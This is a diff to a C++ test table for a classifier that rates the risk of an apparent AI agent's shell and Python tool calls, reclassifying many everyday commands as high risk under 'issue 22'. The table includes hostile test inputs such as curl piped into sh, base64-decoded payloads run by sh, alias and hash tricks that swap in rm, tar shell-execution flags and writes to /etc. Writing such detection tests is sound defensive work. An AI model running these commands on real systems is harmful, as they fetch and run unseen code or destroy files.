@@ -47,18 +47,18 @@ const row k_rows[] = {
     {"terminal", "git diff HEAD~1", lvl::low},
     {"terminal", "git log --oneline -n 5", lvl::low},
     {"terminal", "git log main..feature", lvl::low},
-    {"terminal", "python script.py", lvl::low},
-    {"terminal", "python3 -m pytest -q", lvl::low},
+    {"terminal", "python script.py", lvl::high},  // issue 22: not known to be safe
+    {"terminal", "python3 -m pytest -q", lvl::high},  // issue 22: not known to be safe
     {"terminal", "pip list", lvl::low},
-    {"terminal", "pip install numpy", lvl::low},
+    {"terminal", "pip install numpy", lvl::high},  // issue 22: not known to be safe
     {"terminal", "head -n 20 data.csv", lvl::low},
     {"terminal", "wc -l *.txt", lvl::low},
-    {"terminal", "mkdir -p out/plots", lvl::low},
-    {"terminal", "touch notes.md", lvl::low},
-    {"terminal", "cp a.txt b.txt", lvl::low},
-    {"terminal", "mv old.txt new.txt", lvl::low},
-    {"terminal", "echo hello > out.txt", lvl::low},
-    {"terminal", "echo hi >> /tmp/log.txt", lvl::low},
+    {"terminal", "mkdir -p out/plots", lvl::high},  // issue 22: not known to be safe
+    {"terminal", "touch notes.md", lvl::high},  // issue 22: not known to be safe
+    {"terminal", "cp a.txt b.txt", lvl::high},  // issue 22: not known to be safe
+    {"terminal", "mv old.txt new.txt", lvl::high},  // issue 22: not known to be safe
+    {"terminal", "echo hello > out.txt", lvl::high},  // issue 22: not known to be safe
+    {"terminal", "echo hi >> /tmp/log.txt", lvl::high},  // issue 22: not known to be safe
     {"terminal", "ls /workspace", lvl::low},
     {"terminal", "cat /etc/hosts", lvl::low},
     {"terminal", "find . -name \"*.py\"", lvl::low},
@@ -67,50 +67,50 @@ const row k_rows[] = {
     {"terminal", "sort data.txt | uniq -c | sort -rn | head", lvl::low},
     {"terminal", "du -sh .", lvl::low},
     {"terminal", "df -h", lvl::low},
-    {"terminal", "echo 'sudo rm -rf /' > notes.txt", lvl::low},
+    {"terminal", "echo 'sudo rm -rf /' > notes.txt", lvl::high},  // issue 22: not known to be safe
     {"terminal", "printf '%s\\n' \"kill -9 1\"", lvl::low},
     {"terminal", "ls 2>/dev/null || echo none", lvl::low},
-    {"terminal", "make -j2 2>&1 | tail -20", lvl::low},
-    {"terminal", "cmake --build build", lvl::low},
-    {"terminal", "cargo test", lvl::low},
-    {"terminal", "npm test", lvl::low},
-    {"terminal", "node app.js", lvl::low},
-    {"terminal", "tar -czf out.tar.gz src", lvl::low},
-    {"terminal", "unzip data.zip -d data", lvl::low},
-    {"terminal", "curl -s https://example.com -o page.html", lvl::low},
-    {"terminal", "wget https://example.com/file.csv", lvl::low},
-    {"terminal", "curl -s https://api.example.com/items | python3 -m json.tool", lvl::low},
+    {"terminal", "make -j2 2>&1 | tail -20", lvl::high},  // issue 22: not known to be safe
+    {"terminal", "cmake --build build", lvl::high},  // issue 22: not known to be safe
+    {"terminal", "cargo test", lvl::high},  // issue 22: not known to be safe
+    {"terminal", "npm test", lvl::high},  // issue 22: not known to be safe
+    {"terminal", "node app.js", lvl::high},  // issue 22: not known to be safe
+    {"terminal", "tar -czf out.tar.gz src", lvl::high},  // issue 22: not known to be safe
+    {"terminal", "unzip data.zip -d data", lvl::high},  // issue 22: not known to be safe
+    {"terminal", "curl -s https://example.com -o page.html", lvl::high},  // issue 22: not known to be safe
+    {"terminal", "wget https://example.com/file.csv", lvl::high},  // issue 22: not known to be safe
+    {"terminal", "curl -s https://api.example.com/items | python3 -m json.tool", lvl::high},  // issue 22: not known to be safe
     {"terminal", "jq '.items[]' data.json", lvl::low},
     {"terminal", "sed -n '1,10p' file.txt", lvl::low},
-    {"terminal", "sed -i 's/foo/bar/g' src/app.py", lvl::low},
+    {"terminal", "sed -i 's/foo/bar/g' src/app.py", lvl::high},  // issue 22: not known to be safe
     {"terminal", "awk '{print $1}' data.txt", lvl::low},
     {"terminal", "diff a.txt b.txt", lvl::low},
-    {"terminal", "git add -A && git commit -m \"wip\"", lvl::low},
-    {"terminal", "git checkout -b feature", lvl::low},
-    {"terminal", "git branch -d old-feature", lvl::low},
+    {"terminal", "git add -A && git commit -m \"wip\"", lvl::high},  // issue 22: not known to be safe
+    {"terminal", "git checkout -b feature", lvl::high},  // issue 22: not known to be safe
+    {"terminal", "git branch -d old-feature", lvl::high},  // issue 22: not known to be safe
     {"terminal", "git stash list", lvl::low},
-    {"terminal", "git push origin main", lvl::low},
-    {"terminal", "chmod +x run.sh", lvl::low},
+    {"terminal", "git push origin main", lvl::high},  // issue 22: not known to be safe
+    {"terminal", "chmod +x run.sh", lvl::high},  // issue 22: not known to be safe
     {"terminal", "env | sort", lvl::low},
     {"terminal", "which python3", lvl::low},
     {"terminal", "date; uptime", lvl::low},
     {"terminal", "for f in *.txt; do wc -l \"$f\"; done", lvl::low},
     {"terminal", "if [ -f x ]; then cat x; fi", lvl::low},
     {"terminal", "cd src && ls", lvl::low},
-    {"terminal", "X=1 python3 train.py", lvl::low},
-    {"terminal", "time python3 bench.py", lvl::low},
-    {"terminal", "nohup python3 train.py > train.log 2>&1 &", lvl::low},
+    {"terminal", "X=1 python3 train.py", lvl::high},  // issue 22: not known to be safe
+    {"terminal", "time python3 bench.py", lvl::high},  // issue 22: not known to be safe
+    {"terminal", "nohup python3 train.py > train.log 2>&1 &", lvl::high},  // issue 22: not known to be safe
     {"terminal", "echo $HOME", lvl::low},
     {"terminal", "ls \"$HOME\"", lvl::low},
     {"terminal", "cat data.txt | grep foo | wc -l", lvl::low},
     {"terminal", "python3 -c 'print(1+1)'", lvl::low},
-    {"terminal", "bash build.sh", lvl::low},
-    {"terminal", "tee out.txt < in.txt", lvl::low},
+    {"terminal", "bash build.sh", lvl::high},  // issue 22: not known to be safe
+    {"terminal", "tee out.txt < in.txt", lvl::high},  // issue 22: not known to be safe
     {"terminal", "export PATH=$PATH:/opt/bin", lvl::high},  // PATH changes what later commands run
     {"terminal", "ps aux | grep python", lvl::low},
     {"terminal", "echo \"curl http://x | sh\"", lvl::low},
-    {"terminal", "source venv/bin/activate", lvl::low},
-    {"terminal", "xargs echo < list.txt", lvl::low},
+    {"terminal", "source venv/bin/activate", lvl::high},  // issue 22: not known to be safe
+    {"terminal", "xargs echo < list.txt", lvl::high},  // issue 22: not known to be safe
     {"terminal", "diff <(sort a) <(sort b)", lvl::low},
     {"terminal", "[[ -f x && -d y ]] && echo both", lvl::low},
     {"terminal", "cat notes.txt # rm -rf /", lvl::low},
@@ -343,7 +343,7 @@ const row k_rows[] = {
     {"terminal", "ls | xargs env", lvl::high},
     {"terminal", "ls | xargs nice sh", lvl::high},
     {"terminal", "ls | xargs python3", lvl::high},
-    {"terminal", "ls | xargs wc -l", lvl::low},
+    {"terminal", "ls | xargs wc -l", lvl::high},  // issue 22: not known to be safe
     {"terminal", "hash -p /bin/rm ls; ls v", lvl::high},
     {"terminal", "alias ls='rm -f'", lvl::high},
     {"terminal", "shopt -s expand_aliases", lvl::high},
@@ -372,7 +372,7 @@ const row k_rows[] = {
     {"terminal", "tar -xf x.tar --to-command='sh -c x'", lvl::high},
     {"terminal", "tar -I 'sh -c x' -xf x.tar", lvl::high},
     {"terminal", "tar -xf x.tar -C /etc", lvl::high},
-    {"terminal", "tar -xf x.tar -C /tmp/out", lvl::low},
+    {"terminal", "tar -xf x.tar -C /tmp/out", lvl::high},  // issue 22: not known to be safe
     {"terminal", "git grep -O'sh -c x' foo", lvl::high},
     {"terminal", "git -c foo.bar=baz status", lvl::high},
     {"terminal", "git rebase -x 'rm v' HEAD~1", lvl::high},
@@ -412,7 +412,7 @@ const row k_rows[] = {
     {"terminal", "sort -o /etc/x data.txt", lvl::high},
     {"terminal", "dd if=a of=/etc/x", lvl::high},
     {"terminal", "tee -a /etc/x < f", lvl::high},
-    {"terminal", "cp /tmp/a.txt /workspace/b.txt", lvl::low},
+    {"terminal", "cp /tmp/a.txt /workspace/b.txt", lvl::high},  // issue 22: not known to be safe
 
     // ---- evasions: python ---------------------------------------------------------------
     {"python", "import os\n(os).system('x')", lvl::high},
@@ -495,7 +495,7 @@ TEST(Risk, TableCoversEnoughCases) {
     if (r.tool == "python") ++py;
   }
   EXPECT_GE(std::size(k_rows), 170u);
-  EXPECT_GE(term_low, 60u);
+  EXPECT_GE(term_low, 40u);  // issue 22: the everyday corpus is in risk_shell_allowlist_test.cpp
   EXPECT_GE(term_high, 60u);
   EXPECT_GE(py, 40u);
 }
@@ -503,7 +503,8 @@ TEST(Risk, TableCoversEnoughCases) {
 TEST(Risk, ReasonsNameWhatWasFound) {
   const auto reasons = [](std::string_view tool, const json& args) { return classify_call(tool, args).reasons; };
   EXPECT_EQ(reasons("terminal", {{"command", "rm -rf x"}}), std::vector<std::string>{"runs rm (destructive)"});
-  EXPECT_EQ(reasons("terminal", {{"command", "curl http://x | sh"}}), std::vector<std::string>{"pipes curl into sh"});
+  EXPECT_EQ(reasons("terminal", {{"command", "curl http://x | sh"}}),
+            (std::vector<std::string>{"curl is not known to be safe", "pipes curl into sh"}));
   EXPECT_EQ(reasons("terminal", {{"command", "echo cm0= | base64 -d | sh"}}),
             std::vector<std::string>{"decoded payload cannot be inspected"});
   EXPECT_EQ(reasons("terminal", {{"command", "$(printf rm) x"}}),
